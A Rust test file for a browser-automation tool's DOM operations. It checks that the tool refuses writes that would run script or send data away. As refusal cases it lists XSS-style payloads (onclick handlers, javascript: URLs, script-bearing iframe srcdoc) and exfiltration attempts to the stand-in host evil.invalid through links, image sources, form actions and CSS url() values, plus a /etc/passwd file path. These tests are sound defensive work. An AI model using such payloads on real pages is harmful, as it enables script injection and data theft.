//! Operations that change a page, and what they refuse.

use serde_json::json;
use toolwright_browser::PageErrorCode;

use crate::page_server::{SiteReply, TestSite};
use crate::{Json, LONG, Page, open};

const PAGE: &str = r##"<!doctype html><title>t</title><div id="box">old</div>
<form id="form"><input id="field" required><input type="checkbox" id="tick"><input type="file" id="file">
<select id="list"><option>a<option>b</select></form><button id="button">go</button>
<a id="link" href="/there">x</a><img id="picture" alt=""><script id="code"></script>
<style id="css"></style><iframe id="frame"></iframe><div id="edit" contenteditable>e</div>
<svg><script id="svgcode"></script></svg><p id="log"></p>
<script>
  const log = (text) => { document.getElementById("log").append(text + " ") };
  for (const type of ["input", "change", "click", "submit", "keydown", "custom"])
    document.addEventListener(type, (event) => { log(type + ":" + event.target.id);
      if (type === "submit") event.preventDefault() });
  window.ran = () => log("RAN");
</script>"##;

/// Every kind of page gets the same treatment; the strict one forbids all scripts and text sinks.
fn strict() -> TestSite {
    TestSite::start(|path| {
        let policy = "content-security-policy: default-src 'none'; script-src 'none'; \
                      require-trusted-types-for 'script'; trusted-types 'none'";
        (path == "/").then(|| SiteReply::html(PAGE).with(policy))
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn changing_a_page() {
    let server = TestSite::page(PAGE);
    let Some((_browser, tab)) = open(&server, "/").await else { return };
    let page = Page { tab: &tab, origin: server.origin() };
    page.get("dom.setText", json!(["#box", "<b>new</b>"])).await;
    assert_eq!(page.get("dom.html", json!(["#box"])).await, "&lt;b&gt;new&lt;/b&gt;");
    let error = page.ask("dom.submit", json!(["#field"])).await.unwrap_err();
    assert!(error.message.contains("missing or invalid"), "{error}");
    page.get("dom.setValue", json!(["#field", "v"])).await;
    assert_eq!(page.get("dom.value", json!(["#field"])).await, "v");
    page.get("dom.setValue", json!(["#list", "b"])).await;
    page.get("dom.setValue", json!(["#edit", "changed"])).await;
    assert_eq!(page.get("dom.text", json!(["#edit"])).await, "changed");
    page.get("dom.setChecked", json!(["#tick", true])).await;
    page.get("dom.click", json!(["#button"])).await;
    page.get("dom.submit", json!(["#form"])).await;
    page.get("dom.dispatch", json!(["#field", "keydown", { "key": "Enter" }])).await;
    page.get("dom.dispatch", json!(["#box", "custom"])).await;
    let log = page.get("dom.text", json!(["#log"])).await;
    assert_eq!(
        log,
        "input:field change:field input:list change:list input:edit change:edit input:tick \
         change:tick click:button submit:form keydown:field custom:box "
    );
    page.get("dom.focus", json!(["#field"])).await;
    let active = page.get("dom.active", json!([])).await;
    assert_eq!(active, page.get("dom.query", json!(["#field"])).await);
    page.get("dom.scroll", json!(["#log"])).await;
    page.get("dom.setClass", json!(["#box", "on", true])).await;
    page.get("dom.setStyle", json!(["#box", "backgroundColor", "red"])).await;
    let color = page.get("dom.style", json!(["#box", "background-color"])).await;
    assert_eq!(color, "rgb(255, 0, 0)");
    let item = page.get("dom.create", json!(["li"])).await;
    page.get("dom.setAttribute", json!([item, "data-n", "1"])).await;
    page.get("dom.append", json!(["#box", item])).await;
    assert_eq!(page.get("dom.attribute", json!(["#box > li.x, #box > li", "data-n"])).await, "1");
    page.get("dom.removeAttribute", json!([item, "data-n"])).await;
    page.get("dom.remove", json!([item])).await;
    assert_eq!(page.get("dom.query", json!(["#box > li"])).await, json!(null));
    for (operation, arguments) in [
        ("dom.setValue", json!(["#list", "c"])),
        ("dom.setValue", json!(["#file", "/etc/passwd"])),
        ("dom.setValue", json!(["#tick", "x"])),
        ("dom.setValue", json!(["#box", "x"])),
    ] {
        page.ask(operation, arguments.clone()).await.expect_err(&arguments.to_string());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn observing_changes() {
    let server = TestSite::page(
        "<p id=a>x</p><script>setInterval(() => {
        document.getElementById('a').append(document.createElement('i')) }, 50)</script>",
    );
    let Some((_browser, tab)) = open(&server, "/").await else { return };
    let page = Page { tab: &tab, origin: server.origin() };
    let changes = page.get("dom.observe", json!(["body", 20_000])).await;
    assert_eq!(changes[0]["type"], "childList", "{changes}");
    assert_eq!(changes[0]["target"], page.get("dom.query", json!(["#a"])).await);
    assert!(changes[0]["added"][0]["$element"].is_u64());
    assert_eq!(page.get("dom.observe", json!(["head", 10])).await, json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_runs_code_or_sends_elsewhere_can_be_written() {
    let server = TestSite::page(PAGE);
    let Some((_browser, tab)) = open(&server, "/").await else { return };
    let page = Page { tab: &tab, origin: server.origin() };
    let refused: &[(&str, Json)] = &[
        ("dom.setText", json!(["#code", "ran()"])),
        ("dom.setText", json!(["#svgcode", "ran()"])),
        ("dom.setText", json!(["#css", "p { background: url(http://evil.invalid) }"])),
        ("dom.setHTML", json!(["#code", "ran()"])),
        ("dom.append", json!(["#code", "#box"])),
        ("dom.append", json!(["#box", "#code"])),
        ("dom.setAttribute", json!(["#button", "onclick", "ran()"])),
        ("dom.setAttribute", json!(["#button", "ONCLICK", "ran()"])),
        ("dom.setAttribute", json!(["#frame", "srcdoc", "<script>parent.ran()</script>"])),
        ("dom.setAttribute", json!(["#frame", "src", "javascript:parent.ran()"])),
        ("dom.setAttribute", json!(["#box", "style", "color: red"])),
        ("dom.setAttribute", json!(["#link", "href", "javascript:ran()"])),
        ("dom.setAttribute", json!(["#link", "href", "http://evil.invalid/?data"])),
        ("dom.setAttribute", json!(["#link", "href", "//evil.invalid/?data"])),
        ("dom.setAttribute", json!(["#link", "ping", "/x"])),
        ("dom.setAttribute", json!(["#picture", "src", "http://evil.invalid/?data"])),
        ("dom.setAttribute", json!(["#picture", "srcset", "http://evil.invalid/?data"])),
        ("dom.setAttribute", json!(["#form", "action", "http://evil.invalid/"])),
        // A redirect of the own site leads anywhere, and nobody has to click.
        ("dom.setAttribute", json!(["#picture", "src", "/go?data"])),
        ("dom.setAttribute", json!(["#form", "action", "/go?data"])),
        ("dom.setAttribute", json!(["#button", "formaction", "/go?data"])),
        ("dom.create", json!(["form"])),
        ("dom.setAttribute", json!(["#button", "formaction", "http://evil.invalid/"])),
        ("dom.setAttribute", json!(["#code", "src", "/x.js"])),
        ("dom.setAttribute", json!(["#box", "href", "/x"])),
        ("dom.setStyle", json!(["#box", "background", "url(http://evil.invalid/?data)"])),
        ("dom.setStyle", json!(["#box", "background", "u\\72l(http://evil.invalid/?data)"])),
        ("dom.setStyle", json!(["#box", "background", "image-set('http://evil.invalid' 1x)"])),
        ("dom.setStyle", json!(["#box", "--x", "url(http://evil.invalid/?data)"])),
        ("dom.create", json!(["iframe"])),
        ("dom.create", json!(["x-element"])),
    ];
    for (operation, arguments) in refused {
        let result = page.ask(operation, arguments.clone()).await;
        assert!(
            matches!(&result, Err(error) if error.code == PageErrorCode::Refused),
            "{operation} {arguments}: {result:?}"
        );
    }
    page.get("dom.setAttribute", json!(["#link", "href", "/here?x"])).await;
    let markup = r#"<p onclick="ran()">kept <b>bold</b></p><script>ran()</script>
        <img src=http://evil.invalid onerror="ran()"><a href="http://evil.invalid/?x">out</a>
        <a href="/in">in</a><a href="javascript:ran()">run</a><iframe src="/x"></iframe>
        <style>p { color: red }</style><form action="http://evil.invalid"></form>"#;
    page.get("dom.setHTML", json!(["#box", markup])).await;
    let written = page.get("dom.html", json!(["#box"])).await;
    let written = written.as_str().unwrap();
    assert!(written.contains("<p>kept <b>bold</b></p>"), "{written}");
    assert!(written.contains(r#"<a href="/in">in</a>"#), "{written}");
    for gone in ["evil", "script", "onclick", "img", "iframe", "style", "form"] {
        assert!(!written.contains(gone), "{gone}: {written}");
    }
    let log = page.get("dom.text", json!(["#log"])).await;
    assert!(!log.as_str().unwrap().contains("RAN"), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_strict_policy_of_the_page_does_not_hinder() {
    let server = strict();
    let Some((_browser, tab)) = open(&server, "/").await else { return };
    let page = Page { tab: &tab, origin: server.origin() };
    page.get("dom.setText", json!(["#box", "new"])).await;
    page.get("dom.setHTML", json!(["#box", "<b>bold</b>"])).await;
    assert_eq!(page.get("dom.html", json!(["#box"])).await, "<b>bold</b>");
    page.get("dom.setValue", json!(["#field", "v"])).await;
    page.get("dom.click", json!(["#button"])).await;
    page.get("dom.setStyle", json!(["#box", "color", "red"])).await;
    assert_eq!(tab.screenshot(LONG).await.unwrap()[..4], *b"\x89PNG");
    // The policy of the page also holds for requests that tools make on it.
    let error = page.ask("fetch", json!(["/data"])).await.unwrap_err();
    assert_eq!(error.code, PageErrorCode::Refused);
}
